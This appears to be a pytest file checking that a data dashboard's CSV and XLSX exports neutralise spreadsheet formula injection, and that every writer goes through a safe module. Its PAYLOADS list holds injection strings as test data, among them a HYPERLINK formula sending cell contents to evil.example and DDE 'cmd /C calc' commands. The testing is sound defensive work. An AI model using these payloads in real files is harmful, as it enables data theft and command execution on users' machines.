"""Spreadsheet files the app and the command line write (issue 12, finding 7): no cell can
run as a formula, numbers stay numbers, and every writer goes through data_access.tabular."""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
import re
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from dashboard.exports.impact_csv import export_csv_text
from dashboard.uploads.rejects import rejects_csv
from data_access.importer import template_xlsx
from data_access.queries.impact import (
    ComparisonColumns,
    CountryColumns,
    DailyColumns,
    FlagshipColumns,
    GroupColumns,
    HeadlineColumns,
    ImpactReport,
    ReleasedOperation,
)
from data_access.tabular import FORMULA_STARTS, csv_text, inert_cell
from tests.test_cli_import import jointops, setup  # noqa: F401 - the CLI's fixture

ROOT = Path(__file__).resolve().parent.parent
SAFE_WRITER = ROOT / "data_access" / "tabular.py"
# What a spreadsheet would run: the probe's HYPERLINK, DDE, and the other starts.
PAYLOADS = ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            "\uff1d1+1", "\uff0bcmd", "\uff0d1", "\uff20SUM(A1)", "-12+1")


def runnable(text: str) -> bool:
    """Whether a CSV cell's text would be read as a formula (a leading quote disarms it; a
    plain number such as -3 is read as that number)."""
    return text.startswith(FORMULA_STARTS) and re.fullmatch(r"[+-]?\d+(\.\d+)?", text) is None


def runnable_cells(text: str) -> list[str]:
    """Every cell of a CSV text that a spreadsheet could run."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row if runnable(cell)]


# --- the writer ------------------------------------------------------------------------

@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_text_gets_a_quote(payload: str) -> None:
    assert inert_cell(payload) == "'" + payload
    assert runnable_cells(csv_text([["h"], [payload]])) == []


def test_numbers_stay_numbers_and_missing_values_are_empty() -> None:
    text = csv_text([["a", "b", "c", "d"], [-3, -2.5, float("nan"), None]])
    assert text.splitlines()[1] == "-3,-2.5,,"
    assert list(csv.reader(io.StringIO(csv_text([["a\rb", "c\nd"]])))) == [["a\rb", "c\nd"]]
    assert inert_cell("plain text") == "plain text"


@pytest.mark.parametrize("typed", ["-3", "+2.5", "-0.125"])
def test_plain_numbers_typed_as_text_are_kept_as_typed(typed: str) -> None:
    assert inert_cell(typed) == typed
    assert csv_text([[typed]]).strip() == typed


# --- every file the app writes ------------------------------------------------------------

def test_cli_import_report_is_inert(setup, tmp_path: Path) -> None:  # noqa: F811
    header = ("national_reference,seizure_date,location_code,seizure_point,transport_mode,"
              "detection_method,species,cites_term,quantity,unit,notes")
    rows = [header]
    for index, payload in enumerate(PAYLOADS):
        cell = '"' + payload.replace('"', '""') + '"'
        # Each payload lands in cells that are rejected (so they appear in the report).
        rows.append(f"KE-INJ-{index},2025-03-05,{cell},export,{cell},x_ray,{cell},{cell},"
                    f"{cell},{cell},{cell}")
    source = tmp_path / "injection.csv"
    source.write_text("\n".join(rows) + "\n", encoding="utf-8")
    report = tmp_path / "report.csv"
    code = jointops(setup, str(source), "--operation", setup[1], "--country", "KEN",
                    "--report", str(report))
    assert code == 1
    text = report.read_text(encoding="utf-8")
    values = [r["value"] for r in csv.DictReader(io.StringIO(text))]
    assert len(values) > len(PAYLOADS), "the payloads must reach the report to prove anything"
    assert runnable_cells(text) == []
    assert "'" + PAYLOADS[0] in values and "'-12+1" in values


def test_rejected_rows_download_is_inert() -> None:
    errors = [{"row": 2 + i, "column": "notes", "code": "unknown_species", "params": {},
               "value": payload} for i, payload in enumerate(PAYLOADS)]
    text = rejects_csv(errors)
    assert runnable_cells(text) == []
    assert "'-12+1" in {row[2] for row in csv.reader(io.StringIO(text))}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_impact_csv_is_inert(payload: str) -> None:
    day = dt.date(2025, 1, 1)
    operation = ReleasedOperation(id=1, code="OP", name=payload, start_date=day,
                                  end_date=day, released_to=day, complete=True)

    def empty(columns: tuple[str, ...]) -> pd.DataFrame:
        return pd.DataFrame(columns=list(columns))

    report = ImpactReport(
        operation=operation, min_count=5, headline=empty(HeadlineColumns.ALL),
        countries=empty(CountryColumns.ALL), groups=empty(GroupColumns.ALL),
        flagships=empty(FlagshipColumns.ALL), daily=empty(DailyColumns.ALL),
        comparison=empty(ComparisonColumns.HEADLINE),
        comparison_daily=empty(ComparisonColumns.DAILY))
    text = export_csv_text(report)
    assert runnable_cells(text) == []
    names = [row[4] for row in csv.reader(io.StringIO(text)) if row[:2] == ["operation", "name"]]
    assert names == ["'" + payload]


def test_xlsx_template_holds_no_formula() -> None:
    workbook = load_workbook(io.BytesIO(template_xlsx(translate=lambda text: "=" + text)))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row
             if cell.value is not None]
    assert any(str(cell.value).startswith("=") for cell in cells)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []


# --- no other writer --------------------------------------------------------------------

WRITER_CALLS = {"writer", "DictWriter", "to_csv", "to_excel", "Workbook"}
WRITER_MODULES = {"xlsxwriter", "openpyxl.writer", "openpyxl.workbook"}


def spreadsheet_writers(path: Path, root: Path = ROOT) -> list[str]:
    """Places in a module that write CSV or XLSX other than through the safe writer."""
    where = path.relative_to(root)
    found = []
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if isinstance(node, ast.Call):
            func = node.func
            name = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")
            if name in WRITER_CALLS:
                found.append(f"{where}:{node.lineno} {name}()")
        elif isinstance(node, ast.ImportFrom):
            names = {alias.name for alias in node.names}
            if (node.module == "csv" and names & {"writer", "DictWriter"}) or \
                    (node.module or "").startswith(tuple(WRITER_MODULES)) or \
                    (node.module == "openpyxl" and "Workbook" in names):
                found.append(f"{where}:{node.lineno} from {node.module}")
        elif isinstance(node, ast.Import) and any(
                alias.name.startswith(tuple(WRITER_MODULES)) for alias in node.names):
            found.append(f"{where}:{node.lineno} import")
    return found


def test_every_spreadsheet_writer_goes_through_the_safe_one() -> None:
    # The app and its command line; scripts/ and bench/ write our own reference data and
    # measurements, never a user's text.
    modules = [p for folder in ("dashboard", "data_access") for p in (ROOT / folder).rglob("*.py")
               if p != SAFE_WRITER]
    assert len(modules) > 50
    assert [w for p in modules for w in spreadsheet_writers(p)] == []


def test_the_scan_sees_a_writer(tmp_path: Path) -> None:
    module = tmp_path / "sneaky.py"
    module.write_text("import csv, io\nfrom openpyxl import Workbook\n"
                      "w = csv.writer(io.StringIO())\nframe.to_csv('x.csv')\nWorkbook()\n")
    found = spreadsheet_writers(module, tmp_path)
    assert sorted(found) == ["sneaky.py:2 from openpyxl", "sneaky.py:3 writer()",
                             "sneaky.py:4 to_csv()", "sneaky.py:5 Workbook()"]
